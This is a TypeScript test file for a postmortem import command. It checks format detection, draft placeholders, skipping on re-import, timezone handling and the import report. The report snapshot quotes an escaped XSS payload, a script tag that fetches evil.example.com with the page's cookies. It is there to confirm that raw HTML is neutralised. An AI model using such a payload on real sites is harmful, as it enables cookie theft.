import { cp, mkdir, mkdtemp, readdir, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { performance } from 'node:perf_hooks';
import { fileURLToPath } from 'node:url';
import { describe, expect, test } from 'vitest';
import { SiteConfigSchema } from '../../schemas/site-config';
import { runCheck } from '../check/run';
import type { Problem } from '../errors';
import type { ImportResult, ImportSummary } from './report';
import { runImport } from './run';

const config = SiteConfigSchema.parse({});
const fixtures = resolve(fileURLToPath(new URL('../../../tests/fixtures/import', import.meta.url)));

/** A project folder holding a copy of the fixtures under `legacy/`, and ways to run import and check in it. */
async function project() {
  const root = await mkdtemp(join(tmpdir(), 'import-'));
  await mkdir(join(root, 'postmortems'));
  await cp(fixtures, join(root, 'legacy'), { recursive: true });
  const io = () => {
    const out = { stdout: '', stderr: '' };
    return {
      out,
      stdout: { write: (text: string) => (out.stdout += text) },
      stderr: { write: (text: string) => (out.stderr += text) },
    };
  };
  const base = { root, cwd: root, env: {}, now: new Date('2024-12-01T00:00:00Z'), config };
  return {
    root,
    async import(...argv: string[]) {
      const { out, ...streams } = io();
      const exitCode = await runImport({ ...base, ...streams, argv });
      return { exitCode, ...out };
    },
    async importJson(...argv: string[]) {
      const run = await this.import(...argv, '--format', 'json');
      return {
        exitCode: run.exitCode,
        ...(JSON.parse(run.stdout) as { summary: ImportSummary; results: ImportResult[] }),
      };
    },
    async check() {
      const { out, ...streams } = io();
      const exitCode = await runCheck({ ...base, ...streams, argv: ['--format', 'json'] });
      return { exitCode, problems: (JSON.parse(out.stdout) as { problems: Problem[] }).problems };
    },
    written: () => readdir(join(root, 'postmortems')),
  };
}

describe('runImport', () => {
  test.each(['markdown', 'postmortems-app', 'cstate', 'incident-io'])(
    'imports the %s fixtures into files that pass check but for the placeholders the report lists',
    async (format) => {
      const site = await project();
      const { exitCode, summary, results } = await site.importJson(`legacy/${format}`, '--from', format);
      expect(exitCode).toBe(0);
      expect(summary.failed).toBe(0);
      expect(summary.written).toBe(results.length);
      const { problems } = await site.check();
      const errors = problems.filter((problem) => problem.severity === 'error');
      expect(errors.filter((problem) => problem.rule !== 'placeholder')).toEqual([]);
      // Each placeholder the report lists is one error of check, in the file the report names.
      const listed = results.flatMap((result) => result.placeholders.map(() => result.path));
      expect(errors.map((problem) => problem.file).sort()).toEqual(listed.sort());
      // A file with placeholders is a draft until they are filled in.
      for (const result of results) {
        const text = await readFile(join(site.root, result.path!), 'utf8');
        expect(text.includes('\nstatus: draft\n')).toBe(result.placeholders.length > 0);
      }
    },
  );

  test('recognises each format with --from auto and says why', async () => {
    const site = await project();
    const { results } = await site.importJson('legacy');
    expect(results.map((result) => [result.file.split('/')[1], result.format])).toEqual(
      results.map((result) => [result.file.split('/')[1], result.file.split('/')[1]]),
    );
    expect(results.every((result) => result.detected)).toBe(true);
  });

  test('skips sources already imported on a second run, and writes nothing new', async () => {
    const site = await project();
    const first = await site.importJson('legacy');
    const files = await site.written();
    const second = await site.importJson('legacy');
    expect(second.summary).toMatchObject({ written: 0, skipped: first.summary.written, failed: 0 });
    expect(second.results.map((result) => result.reason)).toEqual(
      first.results.map((result) => `already imported as ${result.path}`),
    );
    expect(await site.written()).toEqual(files);
    // postmortems.app files are known by their uuid, other files by their path.
    expect(first.results.map((result) => result.reference)).toContain(
      'postmortems-app:6f0c1d9e-2b47-4c1a-9a53-1e8f0d2c7a11',
    );
    expect(first.results.map((result) => result.reference)).toContain(
      'cstate:legacy/cstate/2024-04-02-email-delays.md',
    );
  });

  test('never overwrites a file: a name already taken gets a suffix', async () => {
    const site = await project();
    const taken = join(site.root, 'postmortems', '2024-03-14-cluster-outage-in-eu-west-1.md');
    await writeFile(taken, 'not an import\n');
    const { results } = await site.importJson('legacy/markdown/elastic-cluster-outage.md');
    expect(results[0]!.path).toBe('postmortems/2024-03-14-cluster-outage-in-eu-west-1-2.md');
    expect(await readFile(taken, 'utf8')).toBe('not an import\n');
  });

  test('writes nothing on a dry run, and says what it would write', async () => {
    const site = await project();
    const { results } = await site.importJson('legacy', '--dry-run');
    expect(results.every((result) => result.outcome === 'would-write')).toBe(true);
    expect(await site.written()).toEqual([]);
  });

  test('reports what was mapped, guessed, left to fill in and made safe', async () => {
    const site = await project();
    const run = await site.import(
      'legacy/markdown/elastic-cluster-outage.md',
      'legacy/cstate/2024-04-02-email-delays.md',
    );
    // The seconds vary, and the prompts of missing sections are the scaffold's, tested there.
    const report = run.stdout.replace(/; [\d.]+ s$/m, '; … s').replace(/(needs you {3}body: ## [^:]+:).*/g, '$1 …');
    expect(report).toMatchInlineSnapshot(`
      "legacy/cstate/2024-04-02-email-delays.md → postmortems/2024-04-02-delayed-notification-e-mails.md [draft]
        format      cstate (auto: \`{{< track >}}\` updates or cState fields (\`resolvedWhen\`, \`section: issue\`))
        mapped      title ← frontmatter \`title\`; summary ← the earliest update; startedAt ← frontmatter \`date\`; timeline ← 2 entries from the \`track\` updates; services ← frontmatter \`affected\`
        guessed     severity: SEV4 ← import.severities "notice" in frontmatter \`severity\`
        guessed     timeline[].kind: 2 of 2 ← the words of each event (detected, alerted, paged, escalated, mitigated, resolved…)
        needs you   resolvedAt: when it was over (UTC), e.g. 2024-04-02T10:05:00Z
        needs you   authors: who wrote the postmortem
        needs you   body: ## Root cause and resolution: …
        needs you   body: ## Corrective and preventative measures: …
        zone        times without a zone read in UTC (the site's defaultTimezone; --timezone sets another)
      legacy/markdown/elastic-cluster-outage.md → postmortems/2024-03-14-cluster-outage-in-eu-west-1.md [draft]
        format      markdown (auto: Markdown without another tool’s fields)
        mapped      timezone ← timeline column "Time (UTC)"; title ← first heading; summary ← the paragraph under the title; timeline ← 5 entries from section "Chain of Events"; authors ← line \`By\`; actionItems ← section "Action Items"
        guessed     startedAt: 2024-03-14T09:15:00Z ← the first timeline entry after any trigger ("Synthetic probes alerted on TLS handshake failures."), on the day in first heading
        guessed     resolvedAt: 2024-03-14T09:59:00Z ← the last "resolved" timeline entry ("All proxies served the new certificate; incident resolved.")
        guessed     timeline[].kind: 5 of 5 ← the words of each event (detected, alerted, paged, escalated, mitigated, resolved…)
        guessed     impact.usersAffectedPct: 30 ← "30%" in section "Impact"
        guessed     trigger: expired-credential ← the word "expiry" in section "Root Cause"
        needs you   severity: severity, one of SEV1, SEV2, SEV3, SEV4, SEV5
        needs you   services: a service affected, e.g. checkout
        guessed     heading "Root Cause" renamed "Root cause and resolution", the section it means
        guessed     heading "Action Items" renamed "Corrective and preventative measures", the section it means
        escaped     raw HTML shown as text, not run: \`<script>fetch('https://evil.example.com/?c=' + document.c…\`
        zone        times without a zone read in UTC (timeline column "Time (UTC)")

      2 sources: 2 written, 0 skipped, 0 failed; 6 placeholders to fill in 2 drafts; … s
      Replace each TODO: (npm run check lists them as \`placeholder\`), then remove \`status: draft\`.
      "
    `);
  });

  test('reads times without a zone in --timezone, and says so', async () => {
    const site = await project();
    const { results } = await site.importJson(
      'legacy/cstate/2024-02-20-api-degraded.md',
      '--timezone',
      'Europe/Berlin',
    );
    const text = await readFile(join(site.root, results[0]!.path!), 'utf8');
    expect(text).toContain('startedAt: "2024-02-20T14:02:00+01:00"');
    expect(results[0]!.notes).toContainEqual({
      kind: 'zone',
      message: 'times without a zone read in Europe/Berlin (--timezone)',
    });
  });

  test('explains a mistake on the command line', async () => {
    const site = await project();
    const run = await site.import('legacy', '--from', 'confluence');
    expect(run.exitCode).toBe(2);
    expect(run.stderr).toContain(
      'unknown format `confluence`; use auto, markdown, postmortems-app, cstate, incident-io',
    );
    expect((await site.import('legacy', '--timezone', 'Mars/Olympus')).stderr).toContain('is not an IANA time zone');
  });

  test('says which sources it could not import and why, and exits with 1', async () => {
    const site = await project();
    await writeFile(join(site.root, 'legacy', 'notes.json'), '{"items": []}');
    await writeFile(join(site.root, 'legacy', 'undated.md'), '# Someone restarted the cache\n\nNo dates anywhere.\n');
    const { exitCode, results } = await site.importJson('legacy/notes.json', 'legacy/undated.md');
    expect(exitCode).toBe(1);
    expect(results.map((result) => [result.file, result.outcome, result.reason])).toEqual([
      ['legacy/notes.json', 'failed', 'JSON, but not an incident.io export (no `incidents` or `follow_ups`)'],
      [
        'legacy/undated.md',
        'skipped',
        'no date of the incident found, so no file name; add a date (e.g. `date: 2024-03-14`) to the source',
      ],
    ]);
  });

  test('shows progress once per source read', async () => {
    const site = await project();
    const ticks: string[] = [];
    await runImport({
      root: site.root,
      cwd: site.root,
      argv: ['legacy/markdown'],
      env: {},
      stdout: { write: () => true },
      stderr: { write: () => true },
      now: new Date('2024-12-01T00:00:00Z'),
      config,
      progress: (total) => {
        ticks.push(`start ${total}`);
        return { tick: () => ticks.push('tick'), stop: () => ticks.push('stop') };
      },
    });
    expect(ticks).toEqual(['start 5', 'tick', 'tick', 'tick', 'tick', 'tick', 'stop']);
  });

  test('imports 1,000 generated postmortems.app sources', async () => {
    const site = await project();
    const folder = join(site.root, 'corpus');
    await mkdir(folder);
    await Promise.all(
      Array.from({ length: 1000 }, (_, index) => writeFile(join(folder, `${index}.md`), generatedSource(index))),
    );
    const started = performance.now();
    const { summary } = await site.importJson('corpus');
    const seconds = (performance.now() - started) / 1000;
    console.log(`imported 1,000 postmortems.app sources in ${seconds.toFixed(1)} s`);
    expect(summary).toMatchObject({ sources: 1000, written: 1000, failed: 0 });
    expect(await site.written()).toHaveLength(1000);
  }, 120_000);
});

/** A postmortems.app file as the public corpus has them, varied by `index`. */
export function generatedSource(index: number): string {
  const day = new Date(Date.UTC(2015, 0, 1) + index * 86_400_000 * 2.3);
  const end = new Date(day.getTime() + ((index % 7) + 1) * 23 * 60_000);
  const companies = ['Acme Cloud', 'Globex', 'Initech', 'Umbrella Hosting', 'Hooli'];
  return `---
uuid: 00000000-0000-4000-8000-${String(index).padStart(12, '0')}
url: https://status.example.com/incidents/${index}
title: Incident ${index} in the ${['api', 'database', 'queue', 'cdn'][index % 4]} tier
start_time: ${day.toISOString()}
end_time: ${end.toISOString()}
categories:
  - ${['cloud', 'config-change', 'hardware', 'security'][index % 4]}
keywords:
  - outage
company: ${companies[index % companies.length]}
product: Product ${index % 13}
summary: Requests failed for ${(index % 7) + 1} × 23 minutes for some customers.
---

Requests to the ${['api', 'database', 'queue', 'cdn'][index % 4]} tier failed while a change rolled out.

## Timeline

- ${day.toISOString().slice(11, 16)} Errors began.
- ${end.toISOString().slice(11, 16)} Resolved.
`;
}
